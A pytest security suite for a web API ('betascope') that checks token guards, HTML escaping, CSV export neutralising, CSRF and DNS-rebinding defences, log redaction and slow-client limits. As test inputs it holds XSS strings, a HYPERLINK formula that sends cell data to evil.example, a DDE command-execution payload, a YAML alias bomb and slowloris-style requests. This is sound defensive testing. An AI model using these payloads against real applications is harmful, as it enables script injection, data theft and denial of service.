"""Security: the bearer token on every mutating endpoint, escaped user text in pages,
neutralised CSV, a loopback default bind, and no secret in the server's log."""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

import httpx
import pytest

from tests.api.helpers import spec, submit, wait_status
from tests.api.live import LiveServer
from tests.api.test_bad_input import newest
from tests.conftest import REQUIRE_SERVICES, need
from tests.services import (
    FAST,
    REDIS_URL,
    SESSION_TAG,
    pg_schema_url,
    postgres_ok,
    redis_ok,
    wait_for,
)

warnings.filterwarnings("ignore", message=".*httpx.*starlette.testclient.*")
pytestmark = pytest.mark.services

TOKEN = "tok-3c1f9e0d-never-logged"
RIGHT = {"Authorization": f"Bearer {TOKEN}"}
WRONG_HEADERS = [
    {},
    {"Authorization": "Bearer not-the-token"},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": TOKEN},
    {"Authorization": "Bearer"},
    {"Authorization": "bearer"},
]
# Every route that changes state, as (method, path); any new one must be added here.
MUTATING = {
    ("POST", "/api/v1/sweeps"),
    ("POST", "/api/v1/sweeps/{sweep_id}/cancel"),
    ("POST", "/api/v1/sweeps/{sweep_id}/retry"),
    ("DELETE", "/api/v1/sweeps/{sweep_id}"),
}
# POST routes that store nothing: no token needed (the new-sweep page checks specs
# as the user types, before any token is at hand).
READ_ONLY_POSTS = {("POST", "/api/v1/sweeps/validate")}
XSS = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'


def test_every_mutating_route_is_listed(make_client: Any) -> None:
    client = make_client(api_token=TOKEN)
    paths = client.get("/openapi.json").json()["paths"]
    changing = {(method.upper(), path) for path, ops in paths.items() for method in ops
                if method != "get"}
    assert changing == MUTATING | READ_ONLY_POSTS, "a new mutating route needs a token test"
    # pages (outside the schema) take no form posts or other writes
    for page in ("/", "/sweeps/new", "/sweeps/1", "/compare"):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            assert client.request(method, page).status_code == 405, (method, page)


def _denied(client: Any, method: str, path: str, **kw: Any) -> None:
    for headers in WRONG_HEADERS:
        resp = client.request(method, path, headers=headers, **kw)
        assert resp.status_code == 401, (method, path, headers, resp.text)
        assert resp.headers["www-authenticate"] == "Bearer"
        assert resp.json() == {"detail": "missing or wrong bearer token"}


def test_token_guards_every_mutation_and_reads_stay_open(make_client: Any) -> None:
    client = make_client(api_token=TOKEN)
    doc = spec("token guard", steps=20000)  # long enough to be cancelable
    before = newest(client)
    _denied(client, "POST", "/api/v1/sweeps", json=doc)
    assert newest(client) == before  # nothing was created

    created = client.post("/api/v1/sweeps", json=doc, headers=RIGHT)
    assert created.status_code == 201, created.text
    sid = created.json()["id"]
    url = f"/api/v1/sweeps/{sid}"

    _denied(client, "POST", f"{url}/cancel")
    assert client.get(url).json()["status"] in ("queued", "running")
    canceled = client.post(f"{url}/cancel", headers=RIGHT)
    assert canceled.status_code == 200 and canceled.json()["status"] == "canceled"

    _denied(client, "POST", f"{url}/retry")
    assert client.get(url).json()["status"] == "canceled"
    retried = client.post(f"{url}/retry", headers=RIGHT)
    assert retried.status_code == 200 and retried.json()["status"] in ("queued", "running")
    assert client.post(f"{url}/cancel", headers=RIGHT).status_code == 200

    _denied(client, "DELETE", url)
    _denied(client, "DELETE", "/api/v1/sweeps/987654")  # 401 before 404: ids are not probed
    assert client.get(url).status_code == 200

    # reads need no token, and a (wrong) token does not hurt them
    for path in ("/api/v1/sweeps", url, f"{url}/runs", f"{url}/phase-map", f"{url}/boundary",
                 f"{url}/export.csv", "/api/v1/presets", "/api/v1/healthz", "/", f"/sweeps/{sid}",
                 "/sweeps/new"):
        for headers in ({}, {"Authorization": "Bearer not-the-token"}):
            resp = client.get(path, headers=headers)
            assert resp.status_code == 200, (path, resp.status_code, resp.text[:200])
    check = client.post("/api/v1/sweeps/validate", json=doc)
    assert check.status_code == 200 and check.json()["total_runs"] == 32

    assert client.delete(url, headers=RIGHT).status_code == 204
    assert client.get(url).status_code == 404


def test_without_a_token_configured_mutations_are_open(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec("open", steps=20))
    wait_status(client, sweep["id"], "done")
    assert client.delete(f"/api/v1/sweeps/{sweep['id']}").status_code == 204


def test_user_text_is_escaped_in_pages(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec(XSS, steps=20))
    assert client.get(f"/api/v1/sweeps/{sweep['id']}").json()["name"] == XSS  # data, as given
    pages = [client.get("/"), client.get(f"/sweeps/{sweep['id']}"),
             client.get("/compare", params={"a": XSS, "b": '"><script>alert(2)</script>'})]
    for page in pages:
        # compare with ids that are no sweep is the "not found" page, escaped all the same
        assert page.status_code == (404 if page is pages[2] else 200)
        assert page.headers["content-type"].startswith("text/html")
        # no tag of the payload survives, and no quote that could end an attribute
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
        assert '"><script>alert(2)' not in page.text and "<script>alert(2)" not in page.text
        # and were anything to slip through, no inline script may run
        csp = dict(d.strip().split(" ", 1) for d in page.headers["content-security-policy"]
                   .split(";"))
        assert csp["script-src"] == "'self'"
        assert page.headers["x-content-type-options"] == "nosniff"
    assert "&lt;script&gt;alert(&#34;pwned&#34;)" in pages[2].text  # reflected, escaped
    wait_status(client, sweep["id"], "done")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_export_neutralises_formulas(make_client: Any) -> None:
    client = make_client()
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc = spec(name, steps=20, clip=[{"mode": "none"}, {"mode": "global_norm", "threshold": 1.0}])
    sweep = submit(client, doc)
    wait_status(client, sweep["id"], "done")
    for level in ("runs", "cells"):
        resp = client.get(f"/api/v1/sweeps/{sweep['id']}/export.csv", params={"level": level})
        assert resp.status_code == 200
        assert resp.headers["content-type"].startswith("text/csv")
        assert 'filename="sweep-' in resp.headers["content-disposition"]  # no user text
        assert "HYPERLINK" not in resp.text
        rows = list(csv.reader(io.StringIO(resp.text)))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                # a cell a spreadsheet would evaluate is either a plain number or quoted
                assert not cell.startswith(FORMULA_STARTS) or _number(cell), (level, cell)


def test_export_writer_quotes_text_that_a_spreadsheet_would_run() -> None:
    """The same writer the endpoint streams through, on the text a sweep could carry."""
    from experiments.export import fmt

    for text in ("=1+1", "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"):
        assert fmt(text) == "'" + text
    assert fmt(-0.5) == "-0.5" and fmt(float("-inf")) == "-inf" and fmt("plain") == "plain"


# --- where the server listens -----------------------------------------------------------


def test_serve_binds_loopback_unless_told(monkeypatch: pytest.MonkeyPatch, tmp_path: Path
                                          ) -> None:
    import uvicorn
    from typer.testing import CliRunner

    import api.db.migrate
    from api.cli import app
    from api.settings import Settings

    for key in ("BETASCOPE_HOST", "BETASCOPE_PORT", "BETASCOPE_BROKER_URL"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("BETASCOPE_DATABASE_URL", f"sqlite:///{tmp_path}/bind.db")
    assert Settings().host == "127.0.0.1"
    bound: list[tuple[str, int]] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, host, port, **kw: bound.append((host, port)))
    monkeypatch.setattr(api.db.migrate, "upgrade", lambda *a, **k: None)

    runner = CliRunner()
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert runner.invoke(app, ["serve", "--host", "0.0.0.0", "--port", "9001"]).exit_code == 0
    monkeypatch.setenv("BETASCOPE_HOST", "10.1.2.3")
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert bound == [("127.0.0.1", 8000), ("0.0.0.0", 9001), ("10.1.2.3", 8000)]


# --- secrets ----------------------------------------------------------------------------

DB_PASSWORD = "pgpw-5d0e7c2a-never-logged"
BROKER_PASSWORD = "rdpw-91b4f3aa-never-logged"


def _with_password(url: str, password: str) -> str:
    parts = urlsplit(url)
    host = parts.netloc.rsplit("@", 1)[-1]
    return urlunsplit(parts._replace(netloc=f"{parts.username or ''}:{password}@{host}"))


def test_no_secret_in_the_server_log(tmp_path: Path) -> None:
    """A real `betascope serve` with a token, a database password and (where Redis runs)
    a broker password: its whole output, requests with right and wrong tokens included,
    holds none of them. (Local Postgres and Redis trust loopback, so any password works.)"""
    need(postgres_ok(), "PostgreSQL (BETASCOPE_TEST_DATABASE_URL)")
    db_url = _with_password(pg_schema_url("security"), DB_PASSWORD)
    settings: dict[str, Any] = dict(FAST, database_url=db_url, api_token=TOKEN)
    queue = f"betascope-test-security-{SESSION_TAG}"
    if redis_ok():
        settings.update(broker_url=_with_password(REDIS_URL, BROKER_PASSWORD), queue=queue)
    elif REQUIRE_SERVICES:  # without it the broker's password goes unchecked
        pytest.fail("Redis (BETASCOPE_TEST_REDIS_URL) is required "
                    "(BETASCOPE_REQUIRE_SERVICES=1) but unavailable")
    server = LiveServer(settings, tmp_path / "serve.log")
    try:
        server.wait_ready()
        with httpx.Client(base_url=server.url, timeout=30) as http:
            doc = spec("secrets", steps=20)
            for headers in WRONG_HEADERS:
                assert http.post("/api/v1/sweeps", json=doc, headers=headers).status_code == 401
            made = http.post("/api/v1/sweeps", json=doc, headers=RIGHT)
            assert made.status_code == 201, made.text
            sid = made.json()["id"]
            assert http.get(f"/api/v1/sweeps/{sid}").status_code == 200
            assert http.get("/api/v1/sweeps/999999").status_code == 404
            assert http.get("/api/v1/readyz").status_code == 200
            assert http.post(f"/api/v1/sweeps/{sid}/cancel", headers=RIGHT).status_code in (
                200, 409)
            assert http.delete(f"/api/v1/sweeps/{sid}", headers=RIGHT).status_code == 204
            assert http.post("/api/v1/sweeps", content=b"{", headers={
                **RIGHT, "content-type": "application/json"}).status_code == 400
    finally:
        server.stop()
        if "broker_url" in settings:
            import redis

            redis.Redis.from_url(REDIS_URL).delete(queue)
    log = server.log()
    assert "Uvicorn running on http://127.0.0.1:" in log  # the log was captured
    assert "POST /api/v1/sweeps HTTP/1.1\" 401" in log
    for secret in (TOKEN, DB_PASSWORD, BROKER_PASSWORD):
        assert secret not in log, f"{secret} leaked into the log:\n{log}"


# --- cross-site requests and foreign Host names (issue: CSRF, DNS rebinding) ---------------
# tests/web/test_cross_site.py makes the same attempts from a real browser page.

EVIL = "http://evil.example"


def _count(client: Any) -> int:
    return len(client.get("/api/v1/sweeps", params={"limit": 200}).json()["items"])


@pytest.mark.parametrize("token", [None, TOKEN])
def test_a_browser_on_another_origin_cannot_write(make_client: Any, token: str | None) -> None:
    """What a page elsewhere can make a browser send, with the token or without: a
    foreign or null Origin, Sec-Fetch-Site cross-site or same-site (another port of
    the same host), a body without a type or as a form. All refused, nothing changes."""
    client = make_client(api_token=token)
    auth = RIGHT if token else {}
    sweep = client.post("/api/v1/sweeps", json=spec("target", steps=20000), headers=auth)
    assert sweep.status_code == 201, sweep.text
    url = f"/api/v1/sweeps/{sweep.json()['id']}"
    before = _count(client)
    body = json.dumps(spec("forged", steps=20)).encode()
    as_json = {"content-type": "application/json"}
    attempts: list[tuple[str, str, dict[str, str], bytes | None]] = [
        ("POST", "/api/v1/sweeps", {**as_json, "origin": EVIL}, body),
        ("POST", "/api/v1/sweeps", {**as_json, "origin": "null"}, body),
        ("POST", "/api/v1/sweeps", {**as_json, "origin": "http://testserver:8080"}, body),
        ("POST", "/api/v1/sweeps", {**as_json, "sec-fetch-site": "cross-site"}, body),
        ("POST", "/api/v1/sweeps", {**as_json, "sec-fetch-site": "same-site"}, body),
        ("POST", "/api/v1/sweeps", {}, body),  # fetch(..., {mode: "no-cors", body: Blob})
        ("POST", "/api/v1/sweeps", {"content-type": "text/plain"}, body),
        ("POST", f"{url}/cancel", {"content-type": "application/x-www-form-urlencoded",
                                   "origin": EVIL, "sec-fetch-site": "cross-site"}, b""),
        ("POST", f"{url}/cancel", {"content-type": "application/x-www-form-urlencoded"}, b"a=1"),
        ("POST", f"{url}/cancel", {"origin": EVIL}, None),
        ("POST", f"{url}/retry", {"sec-fetch-site": "cross-site"}, None),
        ("DELETE", url, {"origin": EVIL}, None),
    ]
    for method, path, headers, content in attempts:
        resp = client.request(method, path, headers={**headers, **auth}, content=content)
        assert resp.status_code in (403, 415), (method, path, headers, resp.text)
        assert "cross-site" in resp.text or "content type" in resp.text, resp.text
    assert _count(client) == before
    assert client.get(url).json()["status"] in ("queued", "running")

    # the pages' own requests: same origin, JSON, as Chromium labels them
    same = {**as_json, "origin": "http://testserver", "sec-fetch-site": "same-origin", **auth}
    assert client.post("/api/v1/sweeps/validate", content=body, headers=same).status_code == 200
    made = client.post("/api/v1/sweeps", content=body, headers=same)
    assert made.status_code == 201, made.text
    assert _retrying(lambda: client.post(f"{url}/cancel", headers=same)).status_code == 200
    for sid in (made.json()["id"], sweep.json()["id"]):
        client.post(f"/api/v1/sweeps/{sid}/cancel", headers=auth)
        assert client.delete(f"/api/v1/sweeps/{sid}", headers=auth).status_code == 204


def _retrying(send: Any) -> Any:
    """A request again while it answers 503 (the database was busy: the API's "try again
    shortly"; a cancel can meet a worker's progress write on Postgres)."""
    for _ in range(10):
        resp = send()
        if resp.status_code != 503:
            return resp
        time.sleep(0.5)
    return resp


def test_only_configured_host_names_are_served(make_client: Any) -> None:
    """A page on evil.example, its name re-pointed at 127.0.0.1 (DNS rebinding), would
    be same-origin with itself and could read and write everything."""
    client = make_client(allowed_hosts="")  # the defaults only
    for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", "testserver",
                 "", "localhost.", "127.0.0.2"):
        for method, path in (("GET", "/api/v1/sweeps"), ("GET", "/"), ("GET", "/api/v1/sweeps/"),
                             ("POST", "/api/v1/sweeps/validate")):
            resp = client.request(method, path, headers={"host": host},
                                  json=spec("h", steps=20), follow_redirects=False)
            assert resp.status_code == 400, (host, method, path, resp.status_code)
            assert "location" not in resp.headers  # no redirect built from a foreign Host
            assert "BETASCOPE_ALLOWED_HOSTS" in resp.json()["detail"]
    for host in ("127.0.0.1", "127.0.0.1:8000", "localhost:8000", "LOCALHOST", "[::1]:8000"):
        assert client.get("/api/v1/sweeps", headers={"host": host}).status_code == 200, host
    named = make_client(allowed_hosts="betascope.example.org, *.lab.example")
    for host, code in (("betascope.example.org", 200), ("gpu1.lab.example:8443", 200),
                       ("lab.example.evil", 400), ("evil.example", 400)):
        assert named.get("/api/v1/healthz", headers={"host": host}).status_code == code, host
    bound = make_client(allowed_hosts="", host="10.1.2.3")  # the bind address is served too
    assert bound.get("/api/v1/healthz", headers={"host": "10.1.2.3:8000"}).status_code == 200


# --- validation cannot be made to do unbounded work ----------------------------------------

def test_validation_work_and_answers_are_bounded(make_client: Any) -> None:
    """The megabyte bodies of the report (a 330,000-alias YAML list, a long JSON list,
    thousands of bad values) get a short answer, without a token."""
    client = make_client(max_body_bytes=1 << 20, api_token=TOKEN)  # the default cap
    doc = spec("amplify", steps=20)
    aliases = ("x: &x 0.5\n" + yaml_dump({**doc, "grid": {**doc["grid"], "beta1": "ALIASES"}})
               .replace("beta1: ALIASES", "beta1: [" + ",".join(["*x"] * 330_000) + "]")
               ).encode()
    assert 0.9e6 < len(aliases) < 1 << 20 and aliases.count(b"*x") == 330_000
    long_list = json.dumps({**doc, "grid": {**doc["grid"], "beta1": ["x"] * 200_000}}).encode()
    many_bad = json.dumps({**doc, "grid": {**doc["grid"], "beta1": ["x"] * 5000,
                                           "seed": [-1] * 5000}}).encode()
    for path in ("/api/v1/sweeps/validate", "/api/v1/sweeps"):
        headers = RIGHT if path == "/api/v1/sweeps" else {}
        resp = client.post(path, content=aliases,
                           headers={**headers, "content-type": "application/yaml"})
        assert resp.status_code == 400 and "more than 100 aliases" in resp.json()["detail"]
        assert len(resp.content) < 1000
        resp = client.post(path, content=long_list,
                           headers={**headers, "content-type": "application/json"})
        assert resp.status_code == 422 and len(resp.content) < 1000, resp.text[:300]
        assert [e["field"] for e in resp.json()["detail"]] == ["grid.beta1"]
        assert "200000 values; a list may hold at most 10000" in resp.json()["detail"][0]["msg"]
        resp = client.post(path, content=many_bad,
                           headers={**headers, "content-type": "application/json"})
        assert resp.status_code == 422 and len(resp.content) < 20_000, len(resp.content)
        detail = resp.json()["detail"]
        assert len(detail) == 51, len(detail)  # 50 errors, then how many more
        assert all(e["field"].startswith("grid.beta1[") for e in detail[:50]), detail[:3]
        assert detail[-1]["msg"].startswith(f"{len(_errors_of(many_bad)) - 50} more errors "
                                            "not shown"), detail[-1]
    assert client.get("/api/v1/healthz").status_code == 200


def yaml_dump(doc: Any) -> str:
    import yaml

    return str(yaml.safe_dump(doc, sort_keys=False))


def _errors_of(body: bytes) -> list[Any]:
    from experiments.spec import SpecError, parse_spec

    with pytest.raises(SpecError) as info:
        parse_spec(json.loads(body))
    return info.value.errors


# --- the token's bytes and the settings' secrets --------------------------------------------

def test_token_is_compared_as_bytes_and_checked_at_start(make_client: Any) -> None:
    client = make_client(api_token=TOKEN)
    doc = spec("bytes", steps=20)
    for value in (b"Bearer \xe9", "Bearer é".encode(), b"Bearer " + TOKEN.encode() + b"\xe9",
                  b"Bearer \xff\xfe"):
        resp = client.post("/api/v1/sweeps", json=doc, headers={"Authorization": value})
        assert resp.status_code == 401, (value, resp.status_code, resp.text)

    # a token read from a file ends in a newline: stripped, not a 401 forever
    padded = make_client(api_token=f"  {TOKEN}\n")
    made = padded.post("/api/v1/sweeps", json=doc, headers=RIGHT)
    assert made.status_code == 201, made.text
    assert padded.post(f"/api/v1/sweeps/{made.json()['id']}/cancel",
                       headers=RIGHT).status_code in (200, 409)

    from pydantic import ValidationError

    from api.settings import Settings

    for bad in ("tøken", "two words", "tab\there", "\x00nul"):
        with pytest.raises(ValidationError) as info:
            Settings(api_token=bad)
        assert "printable ASCII" in str(info.value), bad
        assert bad not in str(info.value)  # the error does not repeat the secret


@pytest.mark.parametrize("variable, url", [
    ("BETASCOPE_DATABASE_URL", "mysql://u:hunter2PW@h/db"),
    ("BETASCOPE_DATABASE_URL", "oracle://admin:hunter2PW@db.example:1521/x?a=@"),
    ("BETASCOPE_BROKER_URL", "http://u:hunter2PW@h:6379/0"),
    ("BETASCOPE_BROKER_URL", "kafka://:hunter2PW@h"),
])
def test_a_misconfigured_url_never_prints_its_password(monkeypatch: pytest.MonkeyPatch,
                                                      variable: str, url: str) -> None:
    from typer.testing import CliRunner

    from api.cli import app

    monkeypatch.setenv(variable, url)
    for command in (["serve"], ["worker"], ["db", "upgrade"]):
        result = CliRunner().invoke(app, command)
        assert result.exit_code != 0, (command, result.output)
        out = result.output + str(result.exception or "")
        assert variable.removeprefix("BETASCOPE_").lower() in out, out
        assert "hunter2PW" not in out, out
        assert ":***@" in out, out


# --- hygiene: headers, HEAD, echoed input ----------------------------------------------------

def test_every_response_has_nosniff_and_frame_protection(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec("headers", steps=20))
    for method, path in (("GET", "/api/v1/healthz"), ("GET", "/openapi.json"), ("GET", "/docs"),
                         ("GET", "/api/v1/sweeps"), ("GET", f"/api/v1/sweeps/{sweep['id']}"),
                         ("GET", "/api/v1/sweeps/987654"), ("GET", "/api/v1/sweeps?limit=x"),
                         ("GET", f"/api/v1/sweeps/{sweep['id']}/export.csv"), ("GET", "/nowhere"),
                         ("POST", "/api/v1/sweeps/validate"), ("GET", "/"),
                         ("GET", "/static/app.css")):
        resp = client.request(method, path)
        assert resp.headers.get("x-content-type-options") == "nosniff", (path, resp.headers)
        assert resp.headers.get("x-frame-options") == "DENY", (path, resp.headers)
        assert "frame-ancestors 'none'" in resp.headers["content-security-policy"], path
    wait_status(client, sweep["id"], "done")


def test_head_is_answered_on_get_routes(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec("head", steps=20))
    wait_status(client, sweep["id"], "done")
    for path in ("/api/v1/healthz", "/api/v1/readyz", "/api/v1/sweeps",
                 f"/api/v1/sweeps/{sweep['id']}", f"/api/v1/sweeps/{sweep['id']}/export.csv",
                 "/", f"/sweeps/{sweep['id']}", "/openapi.json", "/static/app.css"):
        got, head = client.get(path), client.head(path)
        assert head.status_code == got.status_code == 200, (path, head.status_code)
        assert head.content == b"", path
        assert head.headers["content-type"] == got.headers["content-type"], path
    assert client.head("/api/v1/sweeps/987654").status_code == 404


def test_a_422_does_not_echo_a_huge_query(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec("echo", steps=20))
    for path, param in (("/api/v1/sweeps", "limit"), ("/api/v1/sweeps", "cursor"),
                        (f"/api/v1/sweeps/{sweep['id']}/phase-map", "batch_size"),
                        (f"/api/v1/sweeps/{sweep['id']}/runs", "seed")):
        resp = client.get(path, params={param: "9" * 30_000 + "x" * 30_000})
        assert resp.status_code == 422, (path, resp.text[:200])
        assert len(resp.content) < 2000, (path, len(resp.content))
        assert param in resp.text
    wait_status(client, sweep["id"], "done")


# --- slow and vanishing clients, and the access log: a real `betascope serve` ---------------

def _live(backend: Any, tmp_path: Path, name: str, **settings: Any) -> LiveServer:
    return LiveServer({**backend.settings, **settings}, tmp_path / f"{name}.log").wait_ready()


def _raw(server: LiveServer, data: bytes) -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=60)
    sock.sendall(data)
    return sock


def _answer(sock: socket.socket, deadline: float) -> bytes:
    """Everything the server sends until it closes, or until `deadline` (monotonic)."""
    got = b""
    try:
        while True:
            sock.settimeout(max(0.1, deadline - time.monotonic()))
            chunk = sock.recv(65536)
            if not chunk:
                break
            got += chunk
    except (TimeoutError, ConnectionResetError):
        pass
    return got


@pytest.fixture
def slow_server(backend: Any, tmp_path: Path) -> Iterator[LiveServer]:
    server = _live(backend, tmp_path, "slow", header_timeout_seconds=2.0,
                   body_timeout_seconds=3.0)
    try:
        yield server
    finally:
        server.stop()


def test_connections_that_dawdle_over_headers_are_closed(slow_server: LiveServer) -> None:
    slow = [_raw(slow_server, b"GET /api/v1/healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-a: ")
            for _ in range(50)]
    try:
        assert httpx.get(f"{slow_server.url}/api/v1/healthz", timeout=30).status_code == 200
        # generous: the server's deadline is 2 s; a machine under load may be slow
        deadline = time.monotonic() + 60
        answers = [_answer(s, deadline) for s in slow]
        assert all(a.startswith(b"HTTP/1.1 408") for a in answers), set(answers)
    finally:
        for sock in slow:
            sock.close()


def test_headers_without_end_are_refused(slow_server: LiveServer) -> None:
    """Headers sent in pieces, never ending: 431 once past 16 KiB, not buffered forever;
    the same connection answers a request with ordinary headers, then one with a big
    body (a body is not a header)."""
    sock = _raw(slow_server, b"GET /api/v1/healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
    try:
        for i in range(40):  # 40 x 1 KiB, in 40 writes
            try:
                sock.sendall(b"X-%d: %s\r\n" % (i, b"a" * 1020))
            except (BrokenPipeError, ConnectionResetError):
                break
        answer = _answer(sock, time.monotonic() + 30)
        assert answer.startswith(b"HTTP/1.1 431"), answer[:200]
    finally:
        sock.close()
    ok = _raw(slow_server, b"GET /api/v1/healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                           b"X-small: " + b"a" * 8000 + b"\r\n\r\n")
    try:
        body = json.dumps({"name": "x" * 60_000}).encode()
        ok.sendall(b"POST /api/v1/sweeps/validate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                   b"Content-Type: application/json\r\nConnection: close\r\n"
                   b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
        answers = _answer(ok, time.monotonic() + 30)
        assert answers.startswith(b"HTTP/1.1 200"), answers[:200]
        second = answers.split(b"HTTP/1.1 ")[2]  # the body was read, and judged by the app
        assert second[:3] in (b"200", b"422") and b"application/json" in second, second[:300]
    finally:
        ok.close()


def test_a_body_trickled_in_gets_408(slow_server: LiveServer) -> None:
    """A byte every half second would take 100 s; the deadline for the whole body is 3 s."""
    sock = _raw(slow_server, b"POST /api/v1/sweeps/validate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             b"Content-Type: application/json\r\nContent-Length: 200\r\n\r\n")
    stop = threading.Event()

    def trickle() -> None:
        for _ in range(200):
            if stop.wait(0.5):
                return
            try:
                sock.sendall(b" ")
            except OSError:
                return

    sender = threading.Thread(target=trickle, daemon=True)
    sender.start()
    try:
        answer = _answer(sock, time.monotonic() + 60)
    finally:
        stop.set()
        sender.join(10)
        sock.close()
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
    assert b"BETASCOPE_BODY_TIMEOUT_SECONDS" in answer


def test_a_client_gone_mid_body_is_no_error_and_url_tokens_are_not_logged(
        slow_server: LiveServer) -> None:
    gone = _raw(slow_server, b"POST /api/v1/sweeps HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             b"Content-Type: application/json\r\nContent-Length: 5000\r\n"
                             b"\r\n{\"name\": \"half")
    gone.close()
    with httpx.Client(base_url=slow_server.url, timeout=30) as http:
        # a token in a query string by mistake
        assert http.get("/api/v1/sweeps", params={"token": TOKEN, "limit": 5,
                                                  "api_key": DB_PASSWORD}).status_code == 200
        wait_for(lambda: "/api/v1/sweeps?" in slow_server.log(), 30, "the access log line")
        # the disconnect was noticed (logged at INFO) once the server answers again
        wait_for(lambda: "client disconnected" in slow_server.log()
                 or "Traceback" in slow_server.log(), 30, "the server to notice the disconnect",
                 interval=0.2)
    slow_server.stop()
    log = slow_server.log()
    assert "Traceback" not in log and " ERROR " not in log and "ERROR:" not in log, log
    assert "/api/v1/sweeps?token=***&limit=5&api_key=*** HTTP/1.1\" 200" in log, log
    assert TOKEN not in log and DB_PASSWORD not in log


def test_connections_over_the_limit_get_503(backend: Any, tmp_path: Path) -> None:
    """The limit is each API process's: one process here (on Postgres the default is one
    per core, and 12 idle connections spread over two may leave each under 8)."""
    server = LiveServer({**backend.settings, "max_connections": 8,
                         "header_timeout_seconds": 120.0}, tmp_path / "limit.log",
                        "--workers", "1").wait_ready()
    idle: list[socket.socket] = []
    try:
        idle = [_raw(server, b"") for _ in range(12)]

        def refused() -> bool:
            return httpx.get(f"{server.url}/api/v1/healthz", timeout=30).status_code == 503

        wait_for(refused, 60, "a request over the connection limit to get 503", interval=0.2)
        for sock in idle:
            sock.close()

        def served() -> bool:
            return httpx.get(f"{server.url}/api/v1/healthz", timeout=30).status_code == 200

        wait_for(served, 60, "the server to serve again once the idle connections closed",
                 interval=0.2)
    finally:
        for sock in idle:
            sock.close()
        server.stop()


@pytest.mark.parametrize(("path", "logged"), [
    ("/api/v1/sweeps?limit=5", "/api/v1/sweeps?limit=5"),
    ("/api/v1/sweeps/1/phase-map?metric=outcome&batch_size=2",
     "/api/v1/sweeps/1/phase-map?metric=outcome&batch_size=2"),
    ("/api/v1/sweeps?token=abc&limit=5", "/api/v1/sweeps?token=***&limit=5"),
    ("/x?limit=5&API_Key=s3cret;Session_ID=9", "/x?limit=5&API_Key=***;Session_ID=***"),
    ("/x?auth=&pwd=p&passwd=q", "/x?auth=***&pwd=***&passwd=***"),
    ("/x/token=abc", "/x/token=***"),
    # a name holding a word is masked: too much, never too little
    ("/x?keyword_free=1&monkey=2", "/x?keyword_free=***&monkey=***"),
    ("/x?tokens", "/x?tokens"),  # no value to mask
])
def test_the_access_log_masks_token_like_parameters(path: str, logged: str) -> None:
    from api.guards import redact_query

    assert redact_query(path) == logged
